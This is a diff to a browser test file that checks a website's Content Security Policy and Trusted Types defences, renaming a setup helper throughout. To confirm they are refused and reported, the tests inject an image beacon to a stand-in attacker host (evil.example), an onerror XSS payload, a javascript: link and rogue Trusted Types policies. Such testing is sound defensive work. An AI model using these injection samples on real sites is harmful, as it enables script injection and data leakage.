@@ -3,22 +3,22 @@ import { expect, test } from 'vitest';
 import { until } from '#testing/until.ts';
 import { ready } from './harness/browser.ts';
 import { routes } from './harness/routes.ts';
-import { setStage } from './harness/setup.ts';
+import { setupJourney } from './harness/setup.ts';
 
 /** What somebody could do who has found a way to put text into a page: nothing that runs. */
 
 const refusal =
   /violates the following Content Security [Pp]olicy directive|This document requires '\w+' assignment|Trusted Type/;
-const stage = setStage();
+const journey = setupJourney();
 
 test('what a page refuses is reported to the server, which logs where and from where', async () => {
-  const page = await stage.visit('/about', { expected: /violates|refused|ERR_/i });
+  const page = await journey.visit('/about', { expected: /violates|refused|ERR_/i });
   await page.evaluate(
     () => void document.body.appendChild(new Image()).setAttribute('src', 'https://evil.example/pixel?who=Aoife'),
   );
-  await until('the report', () => stage.product.output().includes('img-src'));
+  await until('the report', () => journey.product.output().includes('img-src'));
   const line =
-    stage.product
+    journey.product
       .output()
       .split('\n')
       .find((one) => one.includes('img-src')) ?? '';
@@ -27,9 +27,9 @@ test('what a page refuses is reported to the server, which logs where and from w
 });
 
 test('every page is reached by links alone, and nothing of ours is refused', async () => {
-  const page = await stage.newPage({ reducedMotion: 'reduce' });
+  const page = await journey.newPage({ reducedMotion: 'reduce' });
   await watchViolations(page);
-  await page.goto(stage.product.url);
+  await page.goto(journey.product.url);
   // Only the home page has a link to the reviews.
   for (const path of [...routes.slice(1, -1), '/', '/reviews']) {
     await follow(page, path);
@@ -43,11 +43,11 @@ async function follow(page: Page, path: string): Promise<void> {
   await ready(page);
   const link = page.locator(`a[href="${path}"]`).first();
   await link.evaluate((anchor: HTMLAnchorElement) => anchor.click());
-  await page.waitForURL(stage.product.url + path);
+  await page.waitForURL(journey.product.url + path);
 }
 
 test.each(['/', '/make-a-claim', '/services/credit-hire'])('%s: markup with a handler comes out empty', async (path) => {
-  const page = await stage.visit(path, { expected: refusal });
+  const page = await journey.visit(path, { expected: refusal });
   const left = await page.evaluate(() => {
     const place = document.body.appendChild(document.createElement('div'));
     place.innerHTML = '<img src=x onerror="window.ran = true">';
@@ -70,7 +70,7 @@ test.each<[string, () => void]>([
   ['another policy', () => (window as unknown as Typed).trustedTypes.createPolicy('mine', { createScript: (text) => text })],
   ['another default', () => (window as unknown as Typed).trustedTypes.createPolicy('default', { createScript: (text) => text })],
 ])('%s cannot be made', async (_, make) => {
-  const page = await stage.visit('/contact', { expected: refusal });
+  const page = await journey.visit('/contact', { expected: refusal });
   await watchViolations(page);
   const outcome = await page.evaluate(
     `try { const made = (${make})(); made?.nodeType && document.body.append(made); document.body.click() } catch (error) { String(error) }`,
@@ -80,7 +80,7 @@ test.each<[string, () => void]>([
 });
 
 test('an address that a link cannot have does not run', async () => {
-  const page = await stage.visit('/', { expected: refusal });
+  const page = await journey.visit('/', { expected: refusal });
   await watchViolations(page);
   await page.evaluate(() =>
     Object.assign(document.body.appendChild(document.createElement('a')), { href: 'javascript:void(window.ran = true)' }).click(),
